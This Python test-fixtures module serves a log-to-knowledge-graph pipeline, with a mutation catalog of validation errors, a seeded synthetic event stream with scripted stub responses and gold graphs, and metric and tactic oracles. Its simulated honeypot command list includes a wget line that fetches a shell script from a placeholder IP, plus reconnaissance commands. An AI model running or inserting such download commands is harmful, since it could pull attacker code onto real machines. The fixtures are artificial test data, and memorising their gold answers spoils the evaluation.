"""Shared fixtures: a clean graph, the violation mutation catalog, and a synthetic event stream."""

from __future__ import annotations

import json
import math
import random
from dataclasses import dataclass, replace
from datetime import datetime, timedelta, timezone
from pathlib import Path
from fractions import Fraction
from typing import Callable

import numpy as np

from logkg.events import LogEvent
from logkg.exemplars import load_starters
from logkg.kg import KGNode, KGRelationship, KnowledgeGraph, graph_to_dict, graph_to_json, make_graph
from logkg.llm.backend import stub_key
from logkg.llm.prompts import event_message

T0 = datetime(2024, 3, 1, 12, 0, tzinfo=timezone.utc)


def clean_graph() -> KnowledgeGraph:
    """VPN login graph: Event, Source, TimeStamp, User+UserName, IPAddress, Port, Certificate."""
    return load_starters()[0].graph


def gold_graphs() -> list[KnowledgeGraph]:
    return [s.graph for s in load_starters()]


def dumps(g: KnowledgeGraph) -> str:
    return graph_to_json(g, provenance=False)


# ---------------------------------------------------------------------------
# mutation catalog: each function turns the clean graph into raw output that
# triggers exactly one violation code
# ---------------------------------------------------------------------------


def _retype_node(g: KnowledgeGraph, node_id: str, new_type: str, props: dict | None = None) -> KnowledgeGraph:
    nodes = tuple(
        replace(n, node_type=new_type, properties=n.properties if props is None else props) if n.id == node_id else n
        for n in g.nodes
    )
    return replace(g, nodes=nodes)


def _set_props(g: KnowledgeGraph, node_id: str, **changes) -> KnowledgeGraph:
    def patch(n: KGNode) -> KGNode:
        if n.id != node_id:
            return n
        props = dict(n.properties)
        for k, v in changes.items():
            if v is None:
                props.pop(k, None)
            else:
                props[k] = v
        return replace(n, properties=props)

    return replace(g, nodes=tuple(patch(n) for n in g.nodes))


def _drop_node(g: KnowledgeGraph, node_id: str) -> KnowledgeGraph:
    return KnowledgeGraph(
        tuple(n for n in g.nodes if n.id != node_id),
        tuple(r for r in g.relationships if node_id not in (r.source_id, r.target_id)),
    )


def _retype_edge(g: KnowledgeGraph, src: str, dst: str, new_type: str) -> KnowledgeGraph:
    rels = tuple(
        replace(r, rel_type=new_type) if (r.source_id, r.target_id) == (src, dst) else r for r in g.relationships
    )
    return replace(g, relationships=rels)


def _add(g: KnowledgeGraph, nodes=(), rels=()) -> KnowledgeGraph:
    return KnowledgeGraph(g.nodes + tuple(nodes), g.relationships + tuple(rels))


MUTATIONS: dict[str, Callable[[KnowledgeGraph], str]] = {
    "syntactic/malformed": lambda g: dumps(g)[:-7],
    "shape/unknown-type": lambda g: dumps(_retype_node(g, "p", "Bogus")),
    "shape/abstract-type": lambda g: dumps(_retype_node(g, "p", "Parameter", {})),
    "shape/unknown-property": lambda g: dumps(_set_props(g, "p", bogusProp="x")),
    "shape/datatype": lambda g: dumps(_set_props(g, "p", portNumber="abc")),
    "shape/missing-required": lambda g: dumps(_set_props(g, "e", eventMessage=None)),
    "shape/cardinality": lambda g: dumps(_set_props(g, "ts", timeStampTimezone=("UTC", "CET"))),
    "shape/unknown-relationship": lambda g: dumps(_retype_edge(g, "e", "p", "bogusRel")),
    "shape/endpoint-type": lambda g: dumps(_retype_edge(g, "e", "ip", "hasCredential")),
    "semantic/no-event": lambda g: dumps(_drop_node(g, "e")),
    "semantic/multiple-events": lambda g: dumps(
        _add(g, [KGNode("e2", "Event", {"eventMessage": "second"})], [KGRelationship("e2", "src", "producedBy")])
    ),
    "semantic/dangling-endpoint": lambda g: dumps(_add(g, rels=[KGRelationship("e", "ghost", "hasParameter")])),
    "semantic/duplicate-node": lambda g: dumps(
        _add(g, [KGNode("p2", "Port", {"portNumber": 46011})], [KGRelationship("e", "p2", "hasParameter")])
    ),
    "semantic/disconnected": lambda g: dumps(
        replace(g, relationships=tuple(r for r in g.relationships if r.target_id != "c"))
    ),
}


# ---------------------------------------------------------------------------
# synthetic event stream with stub fixtures
# ---------------------------------------------------------------------------

_USERS = ["alice", "bob", "carol", "dave", "erin", "frank"]
_CMDS = ["uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.7/a.sh", "id", "ls -la /tmp", "crontab -l"]
_HOSTS = ["intranet.example.org", "mail.example.org", "cdn.example.net", "updates.example.com"]


@dataclass(frozen=True)
class StreamItem:
    event: LogEvent
    gold: KnowledgeGraph
    script: list  # stub responses for this event, in call order
    tactics: frozenset[str]


def _ip(rng: random.Random) -> str:
    return f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def _sshd(rng: random.Random, when: datetime) -> tuple[str, str | None, KnowledgeGraph, frozenset[str]]:
    user, ip, port, pid = rng.choice(_USERS), _ip(rng), rng.randrange(1024, 65535), rng.randrange(100, 9999)
    stamp = when.strftime("%Y-%m-%dT%H:%M:%S")
    msg = f"Accepted password for {user} from {ip} port {port} ssh2"
    raw = f"{when:%b %d %H:%M:%S} gw sshd[{pid}]: {msg}"
    g = make_graph(
        [
            ("e", "Event", {"eventMessage": msg, "eventType": "authentication", "eventOutcome": "success"}),
            ("src", "Source", {"sourceName": "gw", "sourceType": "host"}),
            ("ts", "TimeStamp", {"timeStampValue": stamp}),
            ("app", "Application", {"applicationName": "sshd", "applicationPID": pid}),
            ("u", "User", {"userUID": user}),
            ("un", "UserName", {"userNameValue": user}),
            ("ip", "IPAddress", {"ipAddressValue": ip, "ipAddressVersion": 4}),
            ("p", "Port", {"portNumber": port}),
        ],
        [
            ("e", "producedBy", "src"),
            ("e", "hasParameter", "ts"),
            ("e", "hasParameter", "app"),
            ("e", "hasParameter", "u"),
            ("u", "hasCredential", "un"),
            ("e", "hasParameter", "ip"),
            ("e", "hasParameter", "p"),
        ],
    )
    return raw, "log year: 2024", g, frozenset({"Initial Access"})


def _cowrie(rng: random.Random, when: datetime) -> tuple[str, str | None, KnowledgeGraph, frozenset[str]]:
    cmd, ip, sess = rng.choice(_CMDS), _ip(rng), f"{rng.getrandbits(48):012x}"
    stamp = when.strftime("%Y-%m-%dT%H:%M:%S.000000Z")
    raw = json.dumps(
        {"eventid": "cowrie.command.input", "input": cmd, "message": f"CMD: {cmd}", "session": sess,
         "src_ip": ip, "timestamp": stamp},
        sort_keys=True,
    )
    g = make_graph(
        [
            ("e", "Event", {"eventMessage": f"CMD: {cmd}", "eventType": "cowrie.command.input"}),
            ("src", "Source", {"sourceName": "cowrie", "sourceType": "honeypot"}),
            ("ts", "TimeStamp", {"timeStampValue": stamp}),
            ("ip", "IPAddress", {"ipAddressValue": ip, "ipAddressVersion": 4}),
            ("cmd", "Command", {"commandLine": cmd}),
            ("sess", "NetworkSession", {"networkSessionId": sess}),
        ],
        [
            ("e", "producedBy", "src"),
            ("e", "hasParameter", "ts"),
            ("e", "hasParameter", "ip"),
            ("e", "hasParameter", "cmd"),
            ("e", "hasParameter", "sess"),
        ],
    )
    tactic = "Command and Control" if cmd.startswith("wget") else "Discovery"
    return raw, "honeypot: cowrie", g, frozenset({tactic})


def _dns(rng: random.Random, when: datetime) -> tuple[str, str | None, KnowledgeGraph, frozenset[str]]:
    host, ip, pid = rng.choice(_HOSTS), _ip(rng), rng.randrange(100, 9999)
    msg = f"query[A] {host} from {ip}"
    raw = f"{when:%b %d %H:%M:%S} dnsmasq[{pid}]: {msg}"
    g = make_graph(
        [
            ("e", "Event", {"eventMessage": msg, "eventType": "dns query"}),
            ("src", "Source", {"sourceName": "dnsmasq", "sourceType": "DNS server"}),
            ("ts", "TimeStamp", {"timeStampValue": when.strftime("%Y-%m-%dT%H:%M:%S")}),
            ("app", "Application", {"applicationName": "dnsmasq", "applicationPID": pid}),
            ("h", "Host", {"hostName": host}),
            ("ip", "IPAddress", {"ipAddressValue": ip, "ipAddressVersion": 4}),
        ],
        [
            ("e", "producedBy", "src"),
            ("e", "hasParameter", "ts"),
            ("e", "hasParameter", "app"),
            ("app", "hasParameter", "h"),
            ("e", "hasParameter", "ip"),
        ],
    )
    return raw, None, g, frozenset()


def _degrade(g: KnowledgeGraph) -> KnowledgeGraph:
    """A valid but imperfect answer: the IP node loses its version."""
    nodes = tuple(
        replace(n, properties={k: v for k, v in n.properties.items() if k != "ipAddressVersion"})
        if n.node_type == "IPAddress"
        else n
        for n in g.nodes
    )
    return replace(g, nodes=nodes)


def event_stream(n: int = 50, seed: int = 7, sessions: int = 5) -> list[StreamItem]:
    """``n`` events over ``sessions`` keys with a mix of stub behaviours.

    Roughly: 60% answer correctly at once, 15% answer valid-but-imperfect,
    15% fail once (malformed, then missing Event) before a correct answer,
    10% never produce a valid graph.
    """
    rng = random.Random(seed)
    makers = [_sshd, _cowrie, _dns]
    items = []
    for i in range(n):
        when = T0 + timedelta(seconds=17 * i)
        raw, ctx, gold, tactics = makers[i % 3](rng, when)
        event = LogEvent(raw, ctx, session_key=f"sess-{i % sessions}", received_at=when, source_id="fixture")
        roll = rng.random()
        good = dumps(gold)
        no_event = dumps(_drop_node(gold, "e"))
        if roll < 0.60:
            script = [good]
        elif roll < 0.75:
            script = [dumps(_degrade(gold))]
        elif roll < 0.90:
            script = ["{not json", no_event, good]
        else:
            script = ["{not json", no_event, "[]", no_event]
        items.append(StreamItem(event, gold, script, tactics))
    return items


def stub_fixtures(items: list[StreamItem], tactics_response: str = '["Discovery"]') -> dict:
    return {
        "responses": {stub_key(event_message(it.event)): it.script for it in items},
        "rules": [{"contains": "### Graph", "responses": [tactics_response]}],
    }


def write_stream(directory: Path, items: list[StreamItem], mode: str = "full") -> tuple[Path, Path, Path]:
    """Write events.jsonl, gold.jsonl, stub.json and config.json; returns (events, gold, config)."""
    directory.mkdir(parents=True, exist_ok=True)
    events = directory / "events.jsonl"
    gold = directory / "gold.jsonl"
    events.write_text("".join(json.dumps(it.event.to_dict()) + "\n" for it in items), encoding="utf-8")
    gold.write_text(
        "".join(
            json.dumps({"event": it.event.to_dict(), "gold_graph": graph_to_dict(it.gold, provenance=False),
                        "gold_tactics": sorted(it.tactics)}) + "\n"
            for it in items
        ),
        encoding="utf-8",
    )
    (directory / "stub.json").write_text(json.dumps(stub_fixtures(items)), encoding="utf-8")
    config = directory / "config.json"
    config.write_text(
        json.dumps({"backend": {"kind": "stub", "fixtures": "stub.json"}, "pipeline": {"mode": mode}, "seed": 0}),
        encoding="utf-8",
    )
    return events, gold, config


# ---------------------------------------------------------------------------
# random small graphs (for property tests and metric oracles)
# ---------------------------------------------------------------------------

_NODE_TYPES = {
    "Event": ["eventMessage", "eventType"],
    "IPAddress": ["ipAddressValue", "ipAddressVersion"],
    "Port": ["portNumber"],
    "User": ["userUID", "userPrivileged"],
    "Host": ["hostName"],
}
_VALUES = {
    "eventMessage": ["login", "logout", "scan"],
    "eventType": ["auth", "net"],
    "ipAddressValue": ["10.0.0.1", "10.0.0.2"],
    "ipAddressVersion": [4, 6],
    "portNumber": [22, 80, 443],
    "userUID": ["root", "bob"],
    "userPrivileged": [True, False],
    "hostName": ["a.example", "b.example"],
}
_RELS = ["hasParameter", "producedBy", "hasCredential"]


def random_graph(rng: random.Random, max_nodes: int = 6, id_prefix: str = "n") -> KnowledgeGraph:
    """Small graph over a tiny vocabulary so that random pairs overlap often."""
    count = rng.randint(0, max_nodes)
    nodes = []
    for i in range(count):
        t = rng.choice(sorted(_NODE_TYPES))
        props = {p: rng.choice(_VALUES[p]) for p in _NODE_TYPES[t] if rng.random() < 0.7}
        nodes.append((f"{id_prefix}{i}", t, props))
    rels = set()
    for _ in range(rng.randint(0, 2 * count)):
        a, b = rng.randrange(count), rng.randrange(count)
        if a != b:
            rels.add((f"{id_prefix}{a}", rng.choice(_RELS), f"{id_prefix}{b}"))
    return make_graph(nodes, sorted(rels))


def relabel(g: KnowledgeGraph, rng: random.Random) -> KnowledgeGraph:
    """Rename node ids with a random bijection and shuffle node/edge order."""
    ids = [n.id for n in g.nodes]
    fresh = [f"x{rng.getrandbits(40):010x}" for _ in ids]
    mapping = dict(zip(ids, fresh))
    nodes = [replace(n, id=mapping[n.id]) for n in g.nodes]
    rels = [
        replace(r, source_id=mapping.get(r.source_id, r.source_id), target_id=mapping.get(r.target_id, r.target_id))
        for r in g.relationships
    ]
    rng.shuffle(nodes)
    rng.shuffle(rels)
    return KnowledgeGraph(tuple(nodes), tuple(rels), g.provenance)


# ---------------------------------------------------------------------------
# independent MMR oracle
# ---------------------------------------------------------------------------


def _cos(a, b) -> float:
    dot = math.fsum(x * y for x, y in zip(a, b))
    na = math.sqrt(math.fsum(x * x for x in a))
    nb = math.sqrt(math.fsum(y * y for y in b))
    return 0.0 if na == 0.0 or nb == 0.0 else dot / (na * nb)


def mmr_oracle(query, pool: dict[str, list[float]], lam: float, k: int, eps: float = 1e-12) -> list[str]:
    """Brute-force MMR: at each step score every remaining candidate from scratch.

    Scores within ``eps`` of the step maximum are ties; the smallest id wins.
    """
    selected: list[str] = []
    remaining = set(pool)
    while remaining and len(selected) < k:
        scores = {}
        for d in remaining:
            redundancy = max(_cos(pool[d], pool[s]) for s in selected) if selected else 0.0
            scores[d] = lam * _cos(pool[d], query) - (1 - lam) * redundancy
        top = max(scores.values())
        pick = min(d for d, s in scores.items() if s >= top - eps)
        selected.append(pick)
        remaining.remove(pick)
    return selected


def random_pool(rng: random.Random, max_size: int = 8, max_dim: int = 16) -> tuple[list[float], dict[str, list[float]]]:
    """Random query and pool; duplicates and rescaled copies plant exact ties."""
    dim = rng.randint(2, max_dim)
    size = rng.randint(1, max_size)
    vecs: list[list[float]] = []
    for _ in range(size):
        roll = rng.random()
        if vecs and roll < 0.15:
            vecs.append(list(rng.choice(vecs)))
        elif vecs and roll < 0.25:
            vecs.append([2.0 * x for x in rng.choice(vecs)])
        else:
            vecs.append([rng.gauss(0, 1) for _ in range(dim)])
    ids = rng.sample([f"d{i:02d}" for i in range(40)], size)
    query = [rng.gauss(0, 1) for _ in range(dim)]
    return query, dict(zip(ids, vecs))


# ---------------------------------------------------------------------------
# naive metric oracles over plain tuples
# ---------------------------------------------------------------------------



def _lit(v):
    if isinstance(v, bool):
        return ("bool", v)
    if isinstance(v, int):
        return ("num", v)
    return ("str", v.strip())


def _ent(node: KGNode):
    return (node.node_type, tuple(sorted((k, _lit(v)) for k, v in node.properties.items())))


def oracle_triples(g: KnowledgeGraph) -> list:
    ents = {n.id: _ent(n) for n in g.nodes}
    out = []
    for n in g.nodes:
        for k, v in n.properties.items():
            t = (ents[n.id], k, _lit(v))
            if t not in out:
                out.append(t)
    for r in g.relationships:
        if r.source_id in ents and r.target_id in ents:
            t = (ents[r.source_id], r.rel_type, ents[r.target_id])
            if t not in out:
                out.append(t)
    return out


def _oracle_ratio(hits, den, other_empty):
    if den == 0:
        return 1.0 if other_empty else 0.0
    return hits / den


def oracle_prf(gen, gold):
    a, b = oracle_triples(gen), oracle_triples(gold)
    hits = sum(1 for t in a if t in b)
    p = _oracle_ratio(hits, len(a), not b)
    r = _oracle_ratio(hits, len(b), not a)
    return p, r, (0.0 if p + r == 0 else 2 * p * r / (p + r))


def oracle_entity(gen, gold):
    a = []
    for n in gen.nodes:
        if _ent(n) not in a:
            a.append(_ent(n))
    b = []
    for n in gold.nodes:
        if _ent(n) not in b:
            b.append(_ent(n))
    return _oracle_ratio(sum(1 for e in b if e in a), len(b), not a)


def _oracle_edges(g):
    ents = {n.id: _ent(n) for n in g.nodes}
    out = []
    for r in g.relationships:
        if r.source_id in ents and r.target_id in ents:
            e = (ents[r.source_id], r.rel_type, ents[r.target_id])
            if e not in out:
                out.append(e)
    return out


def oracle_relationship(gen, gold):
    gold_ents = [_ent(n) for n in gold.nodes]
    correct = [_ent(n) for n in gen.nodes if _ent(n) in gold_ents]
    gen_edges, gold_edges = _oracle_edges(gen), _oracle_edges(gold)
    hits = sum(1 for e in gen_edges if e[0] in correct and e[2] in correct and e in gold_edges)
    return _oracle_ratio(hits, len(gold_edges), not gen_edges)


# ---------------------------------------------------------------------------
# sampler corpus and tactic fixture
# ---------------------------------------------------------------------------


def planted_clusters(clusters=6, per=8, dim=24, seed=1):
    """Unit-axis centres with small noise: within-cluster pairs are close, cross-cluster pairs far."""
    rng = np.random.default_rng(seed)
    centers = np.eye(dim)[:clusters]
    vecs = {}
    for c in range(clusters):
        for j in range(per):
            vecs[f"c{c}-{j}"] = centers[c] + rng.normal(0, 0.05, dim)
    return vecs


D, E, P, C, CA, IA = "Discovery", "Execution", "Persistence", "Command and Control", "Credential Access", "Initial Access"

# session: (predicted, gold, hand precision, hand recall)
TACTIC_FIXTURE = [
    ({D}, {D}, Fraction(1), Fraction(1)),
    ({D, E}, {D}, Fraction(1, 2), Fraction(1)),
    ({D}, {D, E}, Fraction(1), Fraction(1, 2)),
    (set(), set(), Fraction(1), Fraction(1)),
    (set(), {D}, Fraction(0), Fraction(0)),
    ({E}, set(), Fraction(0), Fraction(0)),
    ({D, E, P}, {D, E, P}, Fraction(1), Fraction(1)),
    ({D, E, P}, {D}, Fraction(1, 3), Fraction(1)),
    ({C}, {E, C}, Fraction(1), Fraction(1, 2)),
    ({IA, CA}, {IA, CA, D}, Fraction(1), Fraction(2, 3)),
    ({IA}, {CA}, Fraction(0), Fraction(0)),
    ({D, C}, {D, E, P, C}, Fraction(1), Fraction(1, 2)),
    ({D, E, P, C}, {D, C}, Fraction(1, 2), Fraction(1)),
    ({E}, {E}, Fraction(1), Fraction(1)),
    ({D, IA}, {D, E}, Fraction(1, 2), Fraction(1, 2)),
    (set(), set(), Fraction(1), Fraction(1)),
    ({CA}, {CA, IA}, Fraction(1), Fraction(1, 2)),
    ({P, E, D}, {P, C}, Fraction(1, 3), Fraction(1, 2)),
    ({D}, {D}, Fraction(1), Fraction(1)),
    ({C, E}, {C}, Fraction(1, 2), Fraction(1)),
]


def hand_f1(p: Fraction, r: Fraction) -> Fraction:
    return Fraction(0) if p + r == 0 else 2 * p * r / (p + r)
